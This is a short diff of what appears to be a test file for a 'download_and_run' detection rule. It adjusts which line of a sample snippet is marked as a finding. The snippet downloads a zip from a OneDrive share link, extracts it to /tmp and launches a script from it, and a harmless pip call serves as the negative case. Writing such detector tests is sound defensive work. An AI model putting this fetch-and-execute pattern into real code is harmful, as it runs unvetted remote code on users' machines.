@@ -7,9 +7,9 @@ import urllib.request
 import zipfile
 
 data = urllib.request.urlopen("https://api.onedrive.com/v1.0/shares/u!abc/root/content", timeout=60).read()
+# ruleid: download_and_run
 zipfile.ZipFile(io.BytesIO(data)).extractall("/tmp/m")
 runner = os.path.join("/tmp/m", "setup_models.py")
-# ruleid: download_and_run
 subprocess.Popen([sys.executable, runner], cwd="/tmp/m")
 # ok: download_and_run
 subprocess.run([sys.executable, "-m", "pip", "--version"])
